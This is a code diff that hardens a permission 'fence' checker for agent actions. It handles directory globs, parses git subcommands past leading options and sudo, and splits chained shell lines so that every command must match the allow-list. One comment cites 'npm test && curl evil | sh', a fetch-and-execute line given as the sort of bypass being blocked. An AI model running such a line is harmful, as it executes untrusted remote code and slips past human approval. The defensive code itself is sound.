@@ -12,13 +12,16 @@ const matcherCache = new Map<string, (path: string) => boolean>();
 
 export function globMatch(pattern: string, target: string): boolean {
   if (!pattern || !target) return false;
+  const normalized = normalizeTarget(target);
+  // `docs/adr/**` means the files under docs/adr, not a file named docs/adr (picomatch matches both).
+  if (pattern.endsWith("/**") && normalized === pattern.slice(0, -3)) return false;
   let matcher = matcherCache.get(pattern);
   if (!matcher) {
     matcher = picomatch(pattern, { dot: true });
     if (matcherCache.size > 2000) matcherCache.clear();
     matcherCache.set(pattern, matcher);
   }
-  return matcher(normalizeTarget(target));
+  return matcher(normalized);
 }
 
 function normalizeTarget(target: string): string {
@@ -83,13 +86,34 @@ function deniedBy(fence: EffectiveFence, action: string, target: string): string
   return undefined;
 }
 
-/** `bash git push origin main` is a push and `bash git commit` a commit, whatever the allow-list says. */
+/** Options git takes before its subcommand that consume the next word. */
+const GIT_OPTIONS_WITH_VALUE = new Set(["-C", "-c", "--git-dir", "--work-tree", "--namespace", "--exec-path", "--config-env"]);
+
+/** `git push origin main` is a push and `git -C repo commit` a commit, whatever the allow-list says. */
 function bashAction(command: string): "push" | "commit" | undefined {
   const words = command.trim().split(/\s+/);
-  if (words[0] !== "git") return undefined;
-  if (words[1] === "push") return "push";
-  if (words[1] === "commit") return "commit";
+  while (words.length && /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[0])) words.shift();
+  if (words[0] === "sudo" || words[0] === "env" || words[0] === "command") words.shift();
+  if (words[0] !== "git" && !words[0]?.endsWith("/git")) return undefined;
+  for (let i = 1; i < words.length; i++) {
+    const word = words[i];
+    if (GIT_OPTIONS_WITH_VALUE.has(word)) {
+      i++;
+      continue;
+    }
+    if (word.startsWith("-")) continue;
+    return word === "push" ? "push" : word === "commit" ? "commit" : undefined;
+  }
   return undefined;
+}
+
+/**
+ * Splits a shell line into the commands it runs. A prefix allow-list must hold for each of them:
+ * `npm test && curl evil | sh` is not `npm test`.
+ */
+function shellCommands(line: string): string[] | null {
+  if (/[`]|\$\(|<\(|>\(/.test(line)) return null;
+  return line.split(/&&|\|\||;|\||\n|&/).map((c) => c.trim()).filter(Boolean);
 }
 
 /** Decides an action against a fence (use `effectiveFence` first to apply the team). */
@@ -111,18 +135,30 @@ export function checkAction(fence: EffectiveFence, action: FenceAction | string,
       return decide("outside-fence", "outside-fence", "no allowedPaths glob matches");
     }
     case "bash": {
-      const command = target.trim();
-      const verb = bashAction(command);
-      if (verb) {
-        const a = approvals.indexOf(verb);
-        if (a >= 0) return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "${verb}"`);
+      const commands = shellCommands(target);
+      const bashApproval = approvals.indexOf("bash");
+      if (!commands || commands.length === 0) {
+        if (bashApproval >= 0) return decide("needs-approval", "needs-approval", `approvalRequired[${bashApproval}] "bash" (the command substitutes or is empty)`);
+        return decide("outside-fence", "outside-fence", commands ? "empty command" : "command substitution is never inside a fence");
       }
-      const i = fence.allowedCommands.findIndex((c) => command === c || command.startsWith(c + " "));
-      if (i >= 0 && !verb) return decide("allowed", "inside-fence", `allowedCommands[${i}] "${fence.allowedCommands[i]}"`);
-      if (i >= 0 && verb) return decide("outside-fence", "outside-fence", `git ${verb} needs "${verb}" in approvalRequired even when allowedCommands[${i}] "${fence.allowedCommands[i]}" matches`);
-      const a = approvals.indexOf("bash");
-      if (a >= 0) return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "bash"`);
-      return decide("outside-fence", "outside-fence", "no allowedCommands prefix matches");
+      let rule = "";
+      for (const command of commands) {
+        const verb = bashAction(command);
+        if (verb) {
+          const deniedEntry = deniedBy(fence, verb, "");
+          if (deniedEntry) return decide("denied", "team-forbidden", `deniedActions "${deniedEntry}" (${command})`);
+          const a = approvals.indexOf(verb);
+          if (a >= 0) return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "${verb}" (${command})`);
+          return decide("outside-fence", "outside-fence", `"${command}" is a ${verb}, and "${verb}" is not in approvalRequired`);
+        }
+        const i = fence.allowedCommands.findIndex((c) => command === c || command.startsWith(c + " "));
+        if (i < 0) {
+          if (bashApproval >= 0) return decide("needs-approval", "needs-approval", `approvalRequired[${bashApproval}] "bash" (${command})`);
+          return decide("outside-fence", "outside-fence", `no allowedCommands prefix matches "${command}"`);
+        }
+        rule = rule ? `${rule}, allowedCommands[${i}] "${fence.allowedCommands[i]}"` : `allowedCommands[${i}] "${fence.allowedCommands[i]}"`;
+      }
+      return decide("allowed", "inside-fence", rule);
     }
     case "commit":
     case "push": {
